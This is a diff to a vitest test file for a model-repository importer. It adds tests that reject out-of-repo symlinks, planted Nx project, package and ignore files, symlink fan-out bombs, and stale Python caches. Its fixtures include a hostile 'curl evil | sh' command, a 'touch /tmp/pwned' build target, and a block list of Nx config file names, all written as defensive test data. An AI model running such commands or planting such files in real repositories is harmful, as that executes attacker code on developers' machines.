@@ -4,6 +4,7 @@ import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { loadSpec } from '../model-spec';
 import { writeImportedFiles } from './copy-files';
+import { MAX_TREE_ENTRIES } from '../system/copy-tree';
 import { assertNoClashes, findClashes, normalizeDirectory, planImport } from './plan';
 import { readRepository } from './read-repository';
 
@@ -199,15 +200,135 @@ describe('writeImportedFiles', () => {
     put('a/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
     put('a/1/model.onnx');
     put('b/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
-    mkdirSync(join(repo, 'b/1'), { recursive: true });
-    writeFileSync(join(scratch, 'outside.onnx'), 'x');
-    symlinkSync(join(scratch, 'outside.onnx'), join(repo, 'b/1/model.onnx'));
+    put('b/1/model.onnx');
     const ws = join(scratch, 'ws');
     const planned = plan();
+    rmSync(join(repo, 'b/1/model.onnx')); // gone between the plan and the copy
     await expect(writeImportedFiles(ws, planned, { writeYaml: true })).rejects.toThrow(
-      `import failed, nothing imported: ${join(repo, 'b/1/model.onnx')} is a symbolic link to ${join(scratch, 'outside.onnx')}, outside`,
+      `import failed, nothing imported: cannot copy ${join(repo, 'b/1/model.onnx')}: no such file or directory`,
     );
     expect(readdirSync(join(ws, 'models'))).toEqual([]);
   });
 
+  it('refuses a file that leads out of the repository before anything is written', () => {
+    put('b/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
+    mkdirSync(join(repo, 'b/1'), { recursive: true });
+    writeFileSync(join(scratch, 'outside.onnx'), 'x');
+    symlinkSync(join(scratch, 'outside.onnx'), join(repo, 'b/1/model.onnx'));
+    expect(() => plan()).toThrow(`cannot import repo:\n  ${join(repo, 'b/1/model.onnx')} is a symbolic link to ${join(scratch, 'outside.onnx')}, outside`);
+  });
+
 });
+
+// Issue 22, N1: a project.json (or triton.yaml) in a version directory became an Nx project whose
+// commands ran at the next `nx run-many -t build`.
+describe('an import never plants Nx projects, packages or ignore files', () => {
+  const refusal = (name: string) =>
+    `an import never brings in ${name}: it would make or change an Nx project, a package or what Nx and git ignore (remove it from the repository, or import a copy without it)`;
+
+  it('refuses them wherever they are: beside the newest model file, in an older version, in a python or vLLM version directory', () => {
+    put('onnx/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
+    put('onnx/1/model.onnx');
+    put('onnx/1/deep/triton.yaml', 'export: { command: [sh, -c, "curl evil | sh"] }\n');
+    put('onnx/3/model.onnx');
+    put('onnx/3/project.json', '{ "targets": { "build": { "command": "touch /tmp/pwned" } } }');
+    put('py/config.pbtxt', 'backend: "python"\n');
+    put('py/1/model.py');
+    put('py/1/.gitignore', '*\n');
+    put('vllm/config.pbtxt', 'backend: "vllm"\n');
+    put('vllm/1/model.json', '{}');
+    put('vllm/1/package.json', '{}');
+    put('vllm/1/vite.config.ts', '');
+    expect(() => plan()).toThrow(
+      'cannot import repo:\n' +
+        `  ${join(repo, 'onnx/1/deep/triton.yaml')}: ${refusal('triton.yaml')}\n` +
+        `  ${join(repo, 'onnx/3/project.json')}: ${refusal('project.json')}\n` +
+        `  ${join(repo, 'py/1/.gitignore')}: ${refusal('.gitignore')}\n` +
+        `  ${join(repo, 'vllm/1/package.json')}: ${refusal('package.json')}`,
+    );
+  });
+
+  it.each(['project.json', 'package.json', 'nx.json', 'triton.yaml', '.gitignore', '.nxignore', '.ignore', '.gitattributes', 'jest.config.ts', 'tsconfig.lib.json', '.eslintrc.json', 'pyproject.toml', 'Cargo.toml'])(
+    '%s is refused',
+    (name) => {
+      put('m/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
+      put('m/1/model.onnx');
+      put(`m/1/${name}`);
+      expect(() => plan()).toThrow(`${join(repo, 'm/1', name)}: ${refusal(name)}`);
+    },
+  );
+
+  it('imports model files whose names only look alike', () => {
+    put('m/config.pbtxt', 'backend: "python"\n');
+    put('m/1/model.py');
+    put('m/1/config.json', '{}');
+    put('m/1/tokenizer.json', '{}');
+    put('m/1/project.json.bak', '{}');
+    expect(() => plan()).not.toThrow();
+  });
+});
+
+// Issue 22, N7: a 134 KB repository of links (8 levels of 8 links to the next level) was imported as 36 MB
+// and stood for ~16 TB of files.
+describe('link fan-out', () => {
+  it('refuses a tree that reaches more than the budget of files and directories through links, before anything is written', () => {
+    put('m/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
+    put('m/2/model.onnx');
+    for (let level = 0; level < 8; level++) {
+      mkdirSync(join(repo, `m/1/l${level}`), { recursive: true });
+      writeFileSync(join(repo, `m/1/l${level}/w.bin`), 'w');
+      if (level < 7) for (let i = 0; i < 8; i++) symlinkSync(join(repo, `m/1/l${level + 1}`), join(repo, `m/1/l${level}/link${i}`));
+    }
+    expect(() => plan()).toThrow(new RegExp(`holds more than ${MAX_TREE_ENTRIES} files and directories \\(at .*\\): symbolic links that reach the same directories over and over\\? Copy the files in instead of linking them`));
+  });
+
+  it('copies each real file once: other paths to it become links to that copy in the project, never to the repository', async () => {
+    put('m/config.pbtxt', 'platform: "onnxruntime_onnx"\n');
+    put('m/1/model.onnx', 'weights');
+    mkdirSync(join(repo, 'm/2'), { recursive: true });
+    symlinkSync(join(repo, 'm/1/model.onnx'), join(repo, 'm/2/model.onnx'));
+    const ws = join(scratch, 'ws');
+    await writeImportedFiles(ws, plan(), { writeYaml: true });
+    const newest = statSync(join(ws, 'models/m/model.onnx'));
+    const older = statSync(join(ws, 'models/m/versions/1/model.onnx'));
+    expect(newest.ino).toBe(older.ino);
+    expect(newest.ino).not.toBe(statSync(join(repo, 'm/1/model.onnx')).ino);
+    expect(readFileSync(join(ws, 'models/m/model.onnx'), 'utf8')).toBe('weights');
+  });
+});
+
+// Issue 22, N8: an unchecked-hash .pyc made Triton serve X + 1000 while model.py says X + 1.
+describe('Python caches', () => {
+  it('are left out of every imported version, with a warning', async () => {
+    put('py/config.pbtxt', 'backend: "python"\n');
+    for (const v of ['1', '2']) {
+      put(`py/${v}/model.py`, 'X = 1\n');
+      put(`py/${v}/helpers.py`, 'Y = 2\n');
+      put(`py/${v}/__pycache__/model.cpython-311.pyc`, 'X + 1000');
+    }
+    const planned = plan();
+    expect(planned.warnings).toEqual([
+      `${join(repo, 'py/1/__pycache__')}: Python's cache is not imported (Python writes it again from the sources)`,
+      `${join(repo, 'py/2/__pycache__')}: Python's cache is not imported (Python writes it again from the sources)`,
+    ]);
+    const ws = join(scratch, 'ws');
+    await writeImportedFiles(ws, planned, { writeYaml: true });
+    expect(readdirSync(join(ws, 'models/py/versions/1')).sort()).toEqual(['helpers.py', 'model.py']);
+    expect(readdirSync(join(ws, 'models/py/versions/2')).sort()).toEqual(['helpers.py', 'model.py']);
+  });
+});
+
+// Issue 22, N20: the newest version lost its dot files (export.file was model.py alone) while older ones kept them.
+describe('dot files of a python model', () => {
+  it('are kept in the newest version as in the older ones: the whole directory is built back', () => {
+    put('py/config.pbtxt', 'backend: "python"\n');
+    for (const v of ['1', '2']) {
+      put(`py/${v}/model.py`, 'X = 1\n');
+      put(`py/${v}/.env`, 'KEY=1\n');
+    }
+    const [model] = plan().models;
+    expect(model.yaml).toContain('\nexport: {file: versions/2}\n');
+    expect(model.copies.map((c) => c.dest)).toEqual(['versions/1', 'versions/2/.env', 'versions/2/model.py']);
+  });
+});
+
